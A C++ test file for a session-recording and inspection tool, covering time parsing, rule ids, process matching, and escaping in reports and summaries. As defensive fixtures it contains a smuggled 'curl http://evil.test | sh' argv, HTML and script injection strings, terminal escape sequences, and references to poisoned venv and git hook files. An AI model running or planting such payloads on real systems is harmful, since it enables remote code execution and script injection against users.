// Reading records for people: time parsing, path prefixes, rule ids, and
// the matcher's view of who runs what.
#include <doctest/doctest.h>

#include <cstdlib>
#include <fstream>
#include <regex>
#include <set>
#include <sstream>

#include "common/text.h"
#include "inspect/describe.h"
#include "inspect/filter.h"
#include "inspect/report.h"
#include "inspect/summary.h"
#include "policy/rule_ids.h"

using namespace flightrec;
using nlohmann::json;

namespace {

// Runs the matcher over entries given as JSON, returning the seqs it keeps.
std::vector<int64_t> kept(inspect::Criteria c, const std::vector<json>& entries) {
  inspect::Matcher m(std::move(c));
  std::vector<int64_t> out;
  ledger::TopLevel top;
  for (const auto& e : entries) {
    std::string body = e.dump();
    REQUIRE(ledger::check_canonical(body, &top).empty());
    if (m.matches(e["session"], top)) out.push_back(e["seq"]);
  }
  return out;
}

}  // namespace

TEST_CASE("wall times: dates, times, UTC and offsets, Unix seconds; anything else refused") {
  setenv("TZ", "UTC", 1);
  tzset();
  CHECK(inspect::parse_wall_time("2026-12-01") == 1796083200ll * 1'000'000'000);
  CHECK(inspect::parse_wall_time("2026-12-01 14:05") == (1796083200ll + 14 * 3600 + 5 * 60) * 1'000'000'000);
  CHECK(inspect::parse_wall_time("2026-12-01T14:05:09Z") == (1796083200ll + 14 * 3600 + 5 * 60 + 9) * 1'000'000'000);
  CHECK(inspect::parse_wall_time("2026-12-01T14:05:09.25Z") ==
        (1796083200ll + 14 * 3600 + 5 * 60 + 9) * 1'000'000'000 + 250'000'000);
  CHECK(inspect::parse_wall_time("2026-12-01T14:05:09+01:00") == (1796083200ll + 13 * 3600 + 5 * 60 + 9) * 1'000'000'000);
  CHECK(inspect::parse_wall_time("@1796133909") == 1796133909ll * 1'000'000'000);
  CHECK(inspect::parse_wall_time("2028-02-29T00:00:00Z").has_value());  // a leap day
  setenv("TZ", "Europe/Berlin", 1);  // local time: an hour ahead of UTC in December
  tzset();
  CHECK(inspect::parse_wall_time("2026-12-01 15:05:09") == (1796083200ll + 14 * 3600 + 5 * 60 + 9) * 1'000'000'000);
  CHECK(inspect::format_wall_time((1796083200ll + 14 * 3600 + 5 * 60 + 9) * 1'000'000'000 + 7'000'000) ==
        "2026-12-01 15:05:09.007");
  unsetenv("TZ");
  tzset();
  for (const char* bad : {"", "yesterday", "2026-13-01", "2026-12-01 25:00", "2026-12-01T14", "2026-12-01 14:05:09 ",
                          "2026-12-01Z1", "@", "@-5", "@12x", "2026-12-01T14:05:09.Z", "2026-12-01T14:05:09+1",
                          "2026-02-31", "2026-02-29T00:00:00Z", "2300-01-01", "@9300000000", "-10", "-m", "-10y",
                          "-1.5h", "--10m", "-99999999999d"})
    CHECK_MESSAGE(!inspect::parse_wall_time(bad), bad);
  // Relative to now: the clock read before and after bounds it.
  auto now_ns = [] {
    timespec t{};
    clock_gettime(CLOCK_REALTIME, &t);
    return int64_t(t.tv_sec) * 1'000'000'000 + t.tv_nsec;
  };
  for (auto pair : {std::pair{"-30s", 30}, {"-10m", 600}, {"-2h", 7200}, {"-7d", 7 * 86400}}) {
    const char* text = pair.first;  // (not structured bindings: the checks' lambdas capture them)
    int secs = pair.second;
    int64_t before = now_ns();
    auto t = inspect::parse_wall_time(text);
    int64_t after = now_ns();
    REQUIRE_MESSAGE(t, text);
    CHECK(*t >= before - secs * 1'000'000'000ll);
    CHECK(*t <= after - secs * 1'000'000'000ll);
  }
}

TEST_CASE("every rule id policies/README.md lists is known, and made ones follow their patterns") {
  std::ifstream in(std::string(SOURCE_DIR) + "/policies/README.md");
  REQUIRE(in);
  std::stringstream text;
  text << in.rdbuf();
  std::string doc = text.str();
  auto table = doc.substr(doc.find("## Rule ids"));
  std::regex id("`([a-z_]+\\.[a-z_.]+)`");
  int seen = 0;
  for (auto it = std::sregex_iterator(table.begin(), table.end(), id); it != std::sregex_iterator(); ++it) {
    std::string rule = (*it)[1];
    if (rule.find("NAME") != std::string::npos) continue;
    INFO(rule);
    CHECK(policy::is_known_rule_id(rule));
    ++seen;
  }
  CHECK(seen > 20);
  CHECK(policy::is_known_rule_id("network"));
  CHECK(policy::is_known_rule_id("seccomp.deny.ptrace"));
  CHECK(policy::is_known_rule_id("seccomp.allow.openat"));
  CHECK_FALSE(policy::is_known_rule_id("seccomp.deny.nosuchcall"));
  CHECK(policy::is_known_rule_id("oci.syscalls[12]"));
  CHECK_FALSE(policy::is_known_rule_id("oci.syscalls[x]"));
  CHECK(policy::is_known_rule_id("on_violation:filesystem.hidden"));
  CHECK_FALSE(policy::is_known_rule_id("netwrok.allow"));
  CHECK_FALSE(policy::is_known_rule_id("network.allo"));
}

TEST_CASE("--exec follows exec and fork, forgets exited processes and reused pids") {
  auto e = [](int64_t seq, const char* type, int64_t pid, json extra = json::object()) {
    json j = {{"seq", seq}, {"session", 1}, {"type", type}, {"pid", pid}};
    j.update(extra);
    return j;
  };
  std::vector<json> entries = {
      e(1, "exec", 10, {{"filename", "/usr/bin/curl"}}),
      e(2, "syscall", 10),
      e(3, "fork", 10, {{"child_pid", 11}, {"thread", 0}}),
      e(4, "syscall", 11),                                     // the child runs curl too
      e(5, "fork", 10, {{"child_pid", 10}, {"thread", 1}}),    // a thread: nothing new
      e(6, "exec", 11, {{"filename", "/usr/bin/sh"}}),         // no longer curl
      e(7, "syscall", 11),
      e(8, "exit", 10, {{"process_exit", 1}}),                 // still curl's own entry
      e(9, "fork", 20, {{"child_pid", 10}, {"thread", 0}}),    // pid 10 reused by a stranger
      e(10, "syscall", 10),
  };
  inspect::Criteria by_name;
  by_name.exec = "curl";
  CHECK(kept(by_name, entries) == std::vector<int64_t>{1, 2, 3, 4, 5, 8});
  inspect::Criteria by_path;
  by_path.exec = "/usr/bin/sh";
  CHECK(kept(by_path, entries) == std::vector<int64_t>{6, 7});
  by_path.exec = "/bin/sh";
  CHECK(kept(by_path, entries).empty());
}

TEST_CASE("criteria combine: types, levels at or above, rules by family, paths, time") {
  std::vector<json> entries = {
      {{"seq", 1}, {"session", 1}, {"type", "violation"}, {"level", "INFO"}, {"rule_id", "proc.access"}, {"ts_real_ns", 100}},
      {{"seq", 2}, {"session", 1}, {"type", "violation"}, {"level", "ALERT"}, {"rule_id", "network.allow"}, {"ts_real_ns", 200}},
      {{"seq", 3}, {"session", 1}, {"type", "violation"}, {"level", "CRITICAL"}, {"rule_id", "networks.x"}, {"ts_real_ns", 300}},
      {{"seq", 4}, {"session", 1}, {"type", "file_open"}, {"path", "x"}, {"kernel_path", "/etc/shadow"}, {"ts_real_ns", 400}},
      {{"seq", 5}, {"session", 1}, {"type", "connect"}, {"ts_real_ns", 500}},
      {{"seq", 6}, {"session", 1}, {"type", "file_open"}, {"path", "/etcx"}, {"ts_real_ns", 600}},
  };
  inspect::Criteria c;
  c.min_level = inspect::Level::Alert;
  CHECK(kept(c, entries) == std::vector<int64_t>{2, 3});
  c = {};
  c.rules = {"network"};
  CHECK(kept(c, entries) == std::vector<int64_t>{2});
  c = {};
  c.path = "/etc";
  CHECK(kept(c, entries) == std::vector<int64_t>{4});
  c = {};
  c.path = "/";
  CHECK(kept(c, entries) == std::vector<int64_t>{4, 6});
  c = {};
  c.types = {"syscall"};
  CHECK(kept(c, entries) == std::vector<int64_t>{4, 5, 6});
  c.since_ns = 450;
  c.until_ns = 550;
  CHECK(kept(c, entries) == std::vector<int64_t>{5});
  c = {};
  c.since_ns = 200;
  c.until_ns = 300;
  c.min_level = inspect::Level::Critical;
  CHECK(kept(c, entries) == std::vector<int64_t>{3});
}

TEST_CASE("one line per entry, whatever the entry holds") {
  json hostile = {{"seq", 2}, {"session", 1}, {"type", "file_open"}, {"nr", 257}, {"name", "openat"},
                  {"path", "/tmp/\x1b[2J\nfake line\r"}, {"comm", "a\nb"}, {"pid", 5}, {"ret", 3}, {"ts_real_ns", 0}};
  std::string line = inspect::entry_line(1, 2, hostile);
  CHECK(line.find('\n') == std::string::npos);
  CHECK(line.find('\r') == std::string::npos);
  CHECK(line.find('\x1b') == std::string::npos);
  CHECK(line.find("openat") != std::string::npos);
  // Members of unexpected kinds and unknown types still give one line.
  json odd = {{"seq", 3}, {"session", 1}, {"type", "violation"}, {"level", 5}, {"of_seq", "x"}, {"detail", {1, 2}}};
  CHECK(inspect::entry_line(1, 3, odd).find("violation") != std::string::npos);
  json later = {{"seq", 4}, {"session", 1}, {"type", "from_the_future"}, {"answer", 42}, {"detail", "said so"}};
  CHECK(inspect::describe(later) == "answer=42: said so");
  json bad_type = {{"seq", 5}, {"session", 1}, {"type", 7}};
  CHECK(inspect::entry_line(1, 5, bad_type).find(" 7 ") != std::string::npos);
}

TEST_CASE("an argv past its first 4096 bytes is shown, escaped, argument by argument") {
  // A command pushed out of the exec entry by padding is still read.
  std::string tail = std::string("; curl http://evil.test | sh\0--flag\0", 36);
  json piece = {{"seq", 6}, {"session", 1}, {"type", "exec_argv"}, {"offset", 4096}, {"data", tail}};
  CHECK(inspect::describe(piece) == "argv continued at offset 4096: \"; curl http://evil.test | sh\" --flag");
  json binary = {{"seq", 7}, {"session", 1}, {"type", "exec_argv"}, {"offset", 8192},
                 {"data_b64", flightrec::base64_encode(std::string("\x1b[2J\xff\0x", 8))}};
  CHECK(inspect::describe(binary) == "argv continued at offset 8192: \\u{001b}[2J\\xff x");
}

TEST_CASE("summary keeps paths whole, whatever bytes they hold") {
  inspect::SessionSummary sum(1);
  ledger::TopLevel top;
  auto add = [&](json e) {
    std::string body = e.dump();
    REQUIRE(ledger::check_canonical(body, &top).empty());
    sum.add(top);
  };
  add({{"seq", 1}, {"session", 1}, {"type", "file_open"}, {"nr", 257}, {"flags", 577}, {"ret", 3},
       {"path", "/tmp/a\t/etc/shadow"}});
  add({{"seq", 2}, {"session", 1}, {"type", "file_open"}, {"nr", 257}, {"flags", 577}, {"ret", 3},
       {"path_b64", "L3RtcC//"}});  // "/tmp/" + 0xff: not UTF-8
  add({{"seq", 3}, {"session", 1}, {"type", "file_open"}, {"nr", 257}, {"flags", 0}, {"ret", 3}, {"path", "/etc/hostname"}});
  json j = sum.to_json();
  REQUIRE(j["files_written"].size() == 2);
  std::set<std::string> paths;
  for (const auto& row : j["files_written"]) paths.insert(row["path"]);
  CHECK(paths.count("/tmp/a\t/etc/shadow") == 1);
  CHECK(paths.count(std::string("/tmp/\xff")) == 1);
  std::string text = sum.to_text();
  CHECK(text.find('\t') == std::string::npos);
  CHECK(text.find("/tmp/a\\t/etc/shadow") != std::string::npos);
}

TEST_CASE("report: what the session named is text on the page, never markup") {
  inspect::Report r(1);
  ledger::TopLevel top;
  auto add = [&](json e) {
    std::string body = e.dump();
    REQUIRE(ledger::check_canonical(body, &top).empty());
    r.add(top, &e);
  };
  add({{"seq", 1}, {"session", 1}, {"type", "genesis"}, {"command", {"<b>x</b>"}}, {"policy_name", "agent"}});
  add({{"seq", 2}, {"session", 1}, {"type", "exec"}, {"pid", 7}, {"comm", "<img src=x>"},
       {"filename", "/tmp/<script>alert(1)</script>"}, {"argv", {"a\"b", "&amp;", "\x1b[2J"}}});
  add({{"seq", 3}, {"session", 1}, {"type", "violation"}, {"level", "ALERT\" onmouseover=\"x"}, {"rule_id", "r"},
       {"action", "denied"}, {"detail", "<iframe>"}});
  ledger::SessionVerdict v;
  v.entries = 3;
  std::string page = r.html(v, "/tmp/a<b>.db");
  for (const char* raw : {"<script>alert", "<img src", "<iframe>", "<b>x</b>", "a<b>.db", "\x1b", "onmouseover=\""})
    CHECK_MESSAGE(page.find(raw) == std::string::npos, raw);
  CHECK(page.find("&lt;script&gt;alert(1)&lt;/script&gt;") != std::string::npos);
  CHECK(page.find("&amp;amp;") != std::string::npos);
  CHECK(page.find("<script") == std::string::npos);
}

TEST_CASE("report: a deep chain and a reused pid both stay on the page") {
  inspect::Report r(1);
  ledger::TopLevel top;
  int64_t seq = 1;
  auto add = [&](json e) {
    e["seq"] = seq++;
    e["session"] = 1;
    std::string body = e.dump();
    REQUIRE(ledger::check_canonical(body, &top).empty());
    r.add(top, &e);
  };
  // A chain 70 processes deep, the last running a marked program.
  for (int64_t pid = 1000; pid < 1070; ++pid)
    add({{"type", "fork"}, {"pid", pid}, {"child_pid", pid + 1}, {"thread", 0}, {"comm", "sh"}});
  add({{"type", "exec"}, {"pid", 1070}, {"comm", "echo"}, {"filename", "/bin/echo"}, {"argv", {"echo", "DEEP_MARKER"}}});
  // 100 forks 200; 100 exits; 200 forks a child that gets pid 100 again.
  add({{"type", "exec"}, {"pid", 100}, {"comm", "curl"}, {"filename", "/usr/bin/curl"}, {"argv", {"curl", "evil"}}});
  add({{"type", "fork"}, {"pid", 100}, {"child_pid", 200}, {"thread", 0}, {"comm", "curl"}});
  add({{"type", "exit"}, {"pid", 100}, {"process_exit", 1}, {"code", 0}});
  add({{"type", "fork"}, {"pid", 200}, {"child_pid", 100}, {"thread", 0}, {"comm", "curl"}});
  add({{"type", "exec"}, {"pid", 100}, {"comm", "ls"}, {"filename", "/bin/ls"}, {"argv", {"ls"}}});
  ledger::SessionVerdict v;
  std::string page = r.html(v, "r.db");
  CHECK(page.find("DEEP_MARKER") != std::string::npos);
  CHECK(page.find("id=\"process-flat\"") != std::string::npos);
  // Both processes that used pid 100: the curl and, later, the ls.
  CHECK(page.find("/usr/bin/curl</span>") == std::string::npos);
  CHECK(page.find("curl evil") != std::string::npos);
  CHECK(page.find("/bin/ls") != std::string::npos);
}

TEST_CASE("what changed: edits by directory, generated trees folded by name or by a venv's pyvenv.cfg") {
  flightrec::inspect::ChangeView cv("/w");
  int64_t seq = 0;
  auto change = [&](const std::string& path, const std::string& change, const std::string& kind = "file",
                    const std::string& when = "end") {
    cv.add({{"type", "file_change"}, {"when", when}, {"seq", ++seq}, {"path", path}, {"change", change}, {"kind", kind},
            {"size", 10}});
  };
  change("/w/tools", "created", "dir");
  change("/w/tools/new.py", "created");
  change("/w/src/b.py", "modified");
  change("/w/src/a.py", "created");
  change("/w/src/z.py", "deleted");
  change("/w/myenv", "created", "dir");
  change("/w/myenv/pyvenv.cfg", "created");
  for (int i = 0; i < 300; ++i) change("/w/myenv/lib/python3.11/site-packages/p/m" + std::to_string(i) + ".py", "created");
  change("/w/node_modules", "created", "dir");
  change("/w/node_modules/x/index.js", "created");
  change("/w/src/__pycache__/b.cpython-311.pyc", "created");
  change("/tmp/scratch", "created");
  change("/w/src/c.py", "created", "file", "close");  // during the session: not a change at its end
  auto v = cv.view();
  CHECK(v.files == 311);
  REQUIRE(v.edits.count("src"));
  const auto& src = v.edits["src"];
  REQUIRE(src.size() == 3);
  CHECK(src[0].path == "/w/src/b.py");  // what existed first, by name
  CHECK(src[1].path == "/w/src/z.py");
  CHECK(src[2].path == "/w/src/a.py");
  CHECK(v.edits["."].size() == 1);  // tools/ itself
  CHECK(v.edits["tools"].size() == 1);
  CHECK(v.edits["/tmp"].size() == 1);  // outside the work directory: absolute
  REQUIRE(v.folded.size() == 3);
  CHECK(v.folded[0].root == "myenv");  // largest first, found by its pyvenv.cfg
  CHECK(v.folded[0].why == "a Python virtual environment");
  CHECK(v.folded[0].by_change.at("created") == 302);
  CHECK(v.folded[0].files.size() == flightrec::inspect::ChangeView::kShownPerTree);
  CHECK(v.folded[0].bytes == 3020);
  std::set<std::string> roots{v.folded[1].root, v.folded[2].root};
  CHECK(roots == std::set<std::string>{"node_modules", "src/__pycache__"});
  CHECK(cv.shown("/w/src/b.py") == "src/b.py");
  CHECK(cv.shown("/wx/y") == "/wx/y");

  // What existed before is never folded (a poisoned activate script, a
  // hook); a pyvenv.cfg dropped into a directory that was there does not
  // fold it; a path longer than PATH_MAX is counted, not kept.
  flightrec::inspect::ChangeView hostile("/w");
  auto add = [&](const std::string& path, const std::string& change, const std::string& kind = "file") {
    hostile.add({{"type", "file_change"}, {"when", "end"}, {"seq", ++seq}, {"path", path}, {"change", change}, {"kind", kind}});
  };
  add("/w/.venv/bin/activate", "modified");
  add("/w/.git/hooks/pre-commit", "created");
  add("/w/.git/config", "modified");
  add("/w/src/pyvenv.cfg", "created");
  add("/w/src/main.py", "created");
  add("/w/" + std::string(5000, 'a'), "created");
  auto h = hostile.view();
  CHECK(h.files == 6);
  CHECK(h.not_kept == 1);
  CHECK(h.edits[".venv/bin"].size() == 1);
  CHECK(h.edits[".git"].size() == 1);
  CHECK(h.edits["src"].size() == 2);
  REQUIRE(h.folded.size() == 1);
  CHECK(h.folded[0].root == ".git");  // the created hook: folded, listed inside
  CHECK(h.folded[0].files.at(0).path == "/w/.git/hooks/pre-commit");
}
